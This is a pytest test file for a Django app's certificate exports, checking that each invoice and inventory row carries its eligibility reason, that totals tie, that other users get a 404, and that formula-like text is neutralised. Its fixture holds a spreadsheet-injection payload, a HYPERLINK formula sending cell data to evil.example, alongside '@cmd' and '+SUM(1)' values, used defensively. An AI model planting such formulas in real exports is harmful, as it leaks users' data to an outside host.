"""Exports of a certificate's full detail: every row with the engine's reason, totals that tie,
text that no spreadsheet evaluates, and nothing for anyone who may not see the certificate."""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest

from abl.models import Certificate
from tests.abl.conftest import AGING, post_report
from tests.factories import OrganisationFactory, UserFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
AGING_WITH_HOSTILE_NAMES = AGING + (
    f'EVIL,"{HOSTILE.replace(chr(34), chr(34) * 2)}",+SUM(1),2003-03-20,,"1,000.00",US,N,N\n'
    'ATCO,@cmd,-5,2003-03-20,,"2,000.00",US,N,N\n'
)
INVENTORY = """\
Item #,Description,Warehouse,Category,Program,Qty,Unit Cost,In Transit,Consigned,Obsolete
FG-1,finished,Reno NV,finished_goods,,10,5.00,N,N,N
WIP-1,half made,Reno NV,work_in_process,,10,5.00,N,N,N
"""


@pytest.fixture
def certificate(client, innotrac, cfo, django_capture_on_commit_callbacks):
    client.force_login(cfo)
    post_report(
        client,
        innotrac,
        django_capture_on_commit_callbacks,
        receivables=AGING_WITH_HOSTILE_NAMES,
        inventory=INVENTORY,
    )
    return Certificate.objects.get()


def _workbook(client, certificate) -> openpyxl.Workbook:
    response = client.get(f"/certificates/{certificate.pk}/export.xlsx")
    assert response.status_code == 200
    assert response.streaming
    assert "attachment" in response["Content-Disposition"]
    return openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def _csv(client, certificate, table: str) -> list[list[str]]:
    response = client.get(f"/certificates/{certificate.pk}/export/{table}.csv")
    assert response.status_code == 200
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_the_workbook_has_every_invoice_with_the_engines_reason(client, certificate):
    sheet = _workbook(client, certificate)["Invoices"]
    rows = list(sheet.iter_rows(values_only=True))

    header, invoices = rows[0], rows[1:]
    assert header[:3] == ("Customer ID", "Customer name", "Invoice")
    assert len(invoices) == 9
    acme_old = next(r for r in invoices if r[2] == "AC-2")
    assert acme_old[3] == dt.datetime(2002, 12, 1)
    assert acme_old[5] == 50000
    assert acme_old[6] == 120
    assert acme_old[7] == "past due: 120 days from invoice date, over the 90-day limit"
    affiliate = next(r for r in invoices if r[0] == "AFFCO")
    assert affiliate[7] == "affiliate: the whole balance is ineligible"


def test_the_workbooks_totals_tie_to_the_certificate(client, certificate):
    workbook = _workbook(client, certificate)
    figures = certificate.current.figures

    invoices = list(workbook["Invoices"].iter_rows(min_row=2, values_only=True))
    customers = list(workbook["Customers"].iter_rows(values_only=True))
    eligible = customers[0].index("Eligible")

    gross = sum(Decimal(str(r[5])) for r in invoices)
    assert gross == Decimal(figures["gross_receivables"])
    assert sum(Decimal(str(r[eligible])) for r in customers[1:]) == Decimal(
        figures["eligible_receivables"]
    )


def test_the_inventory_sheet_gives_each_row_its_reason(client, certificate):
    rows = list(_workbook(client, certificate)["Inventory"].iter_rows(values_only=True))

    reasons = {r[1]: r[9] for r in rows[1:]}
    assert reasons == {"FG-1": "eligible", "WIP-1": "work_in_process"}


def test_text_that_looks_like_a_formula_comes_back_as_text_from_the_workbook(client, certificate):
    sheet = _workbook(client, certificate)["Invoices"]

    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}

    assert cells["EVIL"][1].value == HOSTILE
    assert cells["EVIL"][1].data_type == "s"
    assert cells["EVIL"][2].value == "+SUM(1)"
    assert cells["EVIL"][2].data_type == "s"
    assert cells["ATCO"][1].value == "@cmd"
    assert cells["ATCO"][2].value == "-5"
    assert cells["ATCO"][2].data_type == "s"


def test_text_that_looks_like_a_formula_is_defused_in_the_csv(client, certificate):
    rows = _csv(client, certificate, "invoices")

    by_customer = {r[0]: r for r in rows[1:]}
    assert by_customer["EVIL"][1] == "'" + HOSTILE
    assert by_customer["EVIL"][2] == "'+SUM(1)"
    assert by_customer["ATCO"][1:3] == ["'@cmd", "'-5"]
    assert by_customer["CREDITCO"][5] == "-5000.00"  # an amount stays a number
    assert by_customer["ACME"][1] == "Acme Retail"


def test_each_list_downloads_as_csv(client, certificate):
    customers = _csv(client, certificate, "customers")
    inventory = _csv(client, certificate, "inventory")

    assert customers[0][:2] == ["Customer ID", "Customer name"]
    assert sorted(r[0] for r in customers[1:]) == [
        "ACME",
        "AFFCO",
        "ATCO",
        "BELLSOUTH",
        "CREDITCO",
        "EVIL",
        "MAPLE",
    ]
    assert [r[1] for r in inventory[1:]] == ["FG-1", "WIP-1"]


def test_an_unknown_list_or_someone_elses_certificate_is_404(client, certificate):
    assert client.get(f"/certificates/{certificate.pk}/export/payroll.csv").status_code == 404

    other = UserFactory(role="borrower", organisation=OrganisationFactory(kind="borrower"))
    client.force_login(other)
    assert client.get(f"/certificates/{certificate.pk}/export.xlsx").status_code == 404
    assert client.get(f"/certificates/{certificate.pk}/export/invoices.csv").status_code == 404


def test_the_certificate_page_links_its_exports(client, certificate):
    page = client.get(f"/certificates/{certificate.pk}/").content.decode()

    assert f"/certificates/{certificate.pk}/export.xlsx?computation=" in page
    assert f"/certificates/{certificate.pk}/export/invoices.csv?computation=" in page
